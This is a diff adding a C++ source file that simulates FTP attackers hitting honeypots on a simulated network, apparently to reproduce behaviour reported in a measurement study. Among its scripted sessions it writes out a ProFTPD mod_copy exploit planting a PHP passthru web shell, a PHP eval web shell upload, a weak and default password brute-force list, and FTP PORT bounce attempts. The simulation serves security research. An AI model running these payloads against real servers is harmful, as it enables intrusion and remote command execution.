@@ -1,0 +1,319 @@
+#include "honeypot/attackers.h"
+
+#include <memory>
+#include <string>
+#include <vector>
+
+#include "ftp/client.h"
+
+namespace ftpc::honeypot {
+
+namespace {
+
+/// One scripted FTP session: a login, a sequence of steps, QUIT. Errors
+/// abort silently (attackers are not robust software either).
+class ScriptRunner : public std::enable_shared_from_this<ScriptRunner> {
+ public:
+  struct Step {
+    enum class Kind { kCommand, kUpload, kListing, kAuthTls } kind =
+        Kind::kCommand;
+    ftp::Command command;
+    std::string upload_path;
+    std::string upload_data;
+  };
+
+  static void start(sim::Network& network, Ipv4 src, Ipv4 dst,
+                    std::string user, std::string password,
+                    std::vector<Step> steps) {
+    std::shared_ptr<ScriptRunner> runner(new ScriptRunner(
+        network, src, std::move(user), std::move(password),
+        std::move(steps)));
+    runner->self_ = runner;
+    runner->begin(dst);
+  }
+
+ private:
+  ScriptRunner(sim::Network& network, Ipv4 src, std::string user,
+               std::string password, std::vector<Step> steps)
+      : network_(network),
+        user_(std::move(user)),
+        password_(std::move(password)),
+        steps_(std::move(steps)) {
+    ftp::FtpClient::Options options;
+    options.client_ip = src;
+    options.reply_timeout = 20 * sim::kSecond;
+    client_ = ftp::FtpClient::create(network, options);
+  }
+
+  void begin(Ipv4 dst) {
+    auto self = shared_from_this();
+    client_->connect(dst, 21, [self](Result<ftp::Reply> r) {
+      if (!r.is_ok()) return self->finish();
+      if (self->user_.empty()) return self->next_step();  // no login phase
+      self->client_->send("USER", self->user_, [self](Result<ftp::Reply> r2) {
+        if (!r2.is_ok()) return self->finish();
+        if (r2.value().code == 230) return self->next_step();
+        self->client_->send("PASS", self->password_,
+                            [self](Result<ftp::Reply> r3) {
+                              if (!r3.is_ok()) return self->finish();
+                              self->next_step();
+                            });
+      });
+    });
+  }
+
+  void next_step() {
+    if (index_ >= steps_.size()) {
+      auto self = shared_from_this();
+      client_->quit([self] { self->finish(); });
+      return;
+    }
+    const Step& step = steps_[index_++];
+    auto self = shared_from_this();
+    auto cont = [self](auto&&...) { self->next_step(); };
+    switch (step.kind) {
+      case Step::Kind::kCommand:
+        client_->send_command(step.command, cont);
+        return;
+      case Step::Kind::kUpload:
+        client_->upload(step.upload_path, step.upload_data, cont);
+        return;
+      case Step::Kind::kListing:
+        client_->download("LIST", step.command.arg, cont);
+        return;
+      case Step::Kind::kAuthTls:
+        client_->auth_tls(cont);
+        return;
+    }
+  }
+
+  void finish() {
+    if (!self_) return;
+    client_->abort_session();
+    self_.reset();
+  }
+
+  sim::Network& network_;
+  std::string user_;
+  std::string password_;
+  std::vector<Step> steps_;
+  std::size_t index_ = 0;
+  std::shared_ptr<ftp::FtpClient> client_;
+  std::shared_ptr<ScriptRunner> self_;
+};
+
+using Step = ScriptRunner::Step;
+
+Step cmd(std::string verb, std::string arg = "") {
+  Step s;
+  s.command = ftp::Command{.verb = std::move(verb), .arg = std::move(arg)};
+  return s;
+}
+
+Step upload(std::string path, std::string data) {
+  Step s;
+  s.kind = Step::Kind::kUpload;
+  s.upload_path = std::move(path);
+  s.upload_data = std::move(data);
+  return s;
+}
+
+Step listing(std::string path) {
+  Step s;
+  s.kind = Step::Kind::kListing;
+  s.command.arg = std::move(path);
+  return s;
+}
+
+Step auth_tls() {
+  Step s;
+  s.kind = Step::Kind::kAuthTls;
+  return s;
+}
+
+/// A raw TCP client that speaks HTTP at the FTP port, as most §VIII
+/// scanners did.
+void run_http_get(sim::Network& network, Ipv4 src, Ipv4 dst) {
+  network.connect(src, dst, 21,
+                  [](Result<std::shared_ptr<sim::Connection>> result) {
+                    if (!result.is_ok()) return;
+                    auto conn = std::move(result).take();
+                    conn->send("GET / HTTP/1.0\r\n\r\n");
+                    conn->close();
+                  });
+}
+
+void run_silent_connect(sim::Network& network, Ipv4 src, Ipv4 dst) {
+  network.connect(src, dst, 21,
+                  [](Result<std::shared_ptr<sim::Connection>> result) {
+                    if (!result.is_ok()) return;
+                    std::move(result).take()->close();
+                  });
+}
+
+}  // namespace
+
+AttackerPopulation::AttackerPopulation(sim::Network& network,
+                                       std::uint64_t seed, AttackerMix mix)
+    : network_(network),
+      rng_(derive_seed(seed, "attackers")),
+      mix_(mix) {}
+
+std::uint32_t AttackerPopulation::total_attackers() const noexcept {
+  return mix_.http_get_clients + mix_.silent_connects +
+         mix_.tls_identifiers + mix_.traversers + mix_.pure_listers +
+         mix_.brute_forcers + mix_.write_probers + mix_.port_bouncers +
+         mix_.mod_copy_exploiters + mix_.seagate_exploiters +
+         mix_.warez_mkdir_clients;
+}
+
+Ipv4 AttackerPopulation::pick_source_ip() {
+  Ipv4 ip;
+  for (;;) {
+    if (rng_.chance(mix_.dominant_as_share)) {
+      // "China Unicom Henan Province Network" stand-in: one /16.
+      ip = Ipv4(123, 101, static_cast<std::uint8_t>(rng_.next_below(256)),
+                static_cast<std::uint8_t>(rng_.next_in(1, 254)));
+    } else {
+      ip = Ipv4(static_cast<std::uint32_t>(rng_.next()));
+      if (is_reserved(ip)) continue;
+    }
+    bool clash = false;
+    for (const Ipv4 used : used_ips_) {
+      if (used == ip) {
+        clash = true;
+        break;
+      }
+    }
+    if (!clash) {
+      used_ips_.push_back(ip);
+      return ip;
+    }
+  }
+}
+
+void AttackerPopulation::deploy(const std::vector<Ipv4>& honeypots,
+                                sim::SimTime window) {
+  auto schedule = [&](std::function<void()> action) {
+    network_.loop().schedule_after(rng_.next_below(window),
+                                   std::move(action));
+  };
+  auto pick_honeypot = [&] {
+    return honeypots[rng_.next_below(honeypots.size())];
+  };
+
+  sim::Network* net = &network_;
+
+  for (std::uint32_t i = 0; i < mix_.http_get_clients; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    schedule([net, src, dst] { run_http_get(*net, src, dst); });
+  }
+  for (std::uint32_t i = 0; i < mix_.silent_connects; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    schedule([net, src, dst] { run_silent_connect(*net, src, dst); });
+  }
+  for (std::uint32_t i = 0; i < mix_.tls_identifiers; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    schedule([net, src, dst] {
+      ScriptRunner::start(*net, src, dst, "", "", {auth_tls()});
+    });
+  }
+  for (std::uint32_t i = 0; i < mix_.traversers; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    // Blind web-root walks; half also list what they find.
+    std::vector<Step> steps = {cmd("CWD", "cgi-bin"), cmd("CWD", "/www"),
+                               cmd("CWD", "/public_html"),
+                               cmd("CWD", "/htdocs")};
+    if (i % 2 == 0) steps.push_back(listing("/"));
+    schedule([net, src, dst, steps = std::move(steps)] {
+      ScriptRunner::start(*net, src, dst, "anonymous", "guest@here.com",
+                          steps);
+    });
+  }
+  for (std::uint32_t i = 0; i < mix_.pure_listers; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    schedule([net, src, dst] {
+      ScriptRunner::start(*net, src, dst, "anonymous", "mozilla@example.com",
+                          {listing("/"), listing("/pub")});
+    });
+  }
+  for (std::uint32_t i = 0; i < mix_.brute_forcers; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    // ~120 credential pairs per brute forcer; mostly weak passwords, a few
+    // device defaults.
+    static constexpr const char* kUsers[] = {"admin", "root",  "user",
+                                             "test",  "ftp",   "guest",
+                                             "oracle", "pi",   "ubnt",
+                                             "support"};
+    static constexpr const char* kPasswords[] = {
+        "123456", "password", "admin", "root", "12345", "qwerty",
+        "letmein", "1234",    "toor",  "default", "pass", "changeme"};
+    std::vector<Step> steps;
+    for (const char* user : kUsers) {
+      for (const char* password : kPasswords) {
+        steps.push_back(cmd("USER", user));
+        steps.push_back(
+            cmd("PASS", std::string(password) + "-" + std::to_string(i)));
+      }
+    }
+    schedule([net, src, dst, steps = std::move(steps)] {
+      ScriptRunner::start(*net, src, dst, "", "", steps);
+    });
+  }
+  for (std::uint32_t i = 0; i < mix_.write_probers; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    schedule([net, src, dst] {
+      ScriptRunner::start(
+          *net, src, dst, "anonymous", "probe@example.com",
+          {upload("/hello.world.txt", "aGVsbG8="),
+           cmd("DELE", "/hello.world.txt")});
+    });
+  }
+  // All bounce attempts target the same third party (§VIII.A).
+  const Ipv4 bounce_target(198, 41, 13, 37);
+  for (std::uint32_t i = 0; i < mix_.port_bouncers; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    const ftp::HostPort hp{.ip = bounce_target.value(),
+                           .port = static_cast<std::uint16_t>(6000 + i)};
+    schedule([net, src, dst, hp] {
+      ScriptRunner::start(*net, src, dst, "anonymous", "b@b.b",
+                          {cmd("PORT", hp.wire()), cmd("NLST", "/")});
+    });
+  }
+  for (std::uint32_t i = 0; i < mix_.mod_copy_exploiters; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    schedule([net, src, dst] {
+      ScriptRunner::start(*net, src, dst, "anonymous", "x@x.x",
+                          {cmd("SITE", "CPFR /proc/self/cmdline"),
+                           cmd("SITE", "CPTO /tmp/.<?php passthru($_GET[c]);")});
+    });
+  }
+  for (std::uint32_t i = 0; i < mix_.seagate_exploiters; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = honeypots.back();  // the Seagate-flavored honeypot
+    schedule([net, src, dst] {
+      ScriptRunner::start(*net, src, dst, "root", "",
+                          {upload("/x.php", "<?php eval($_POST[5]);?>")});
+    });
+  }
+  for (std::uint32_t i = 0; i < mix_.warez_mkdir_clients; ++i) {
+    const Ipv4 src = pick_source_ip();
+    const Ipv4 dst = pick_honeypot();
+    schedule([net, src, dst] {
+      ScriptRunner::start(*net, src, dst, "anonymous", "w@w.w",
+                          {cmd("MKD", "150618123456p"),
+                           cmd("MKD", "150619091500p")});
+    });
+  }
+}
+
+}  // namespace ftpc::honeypot
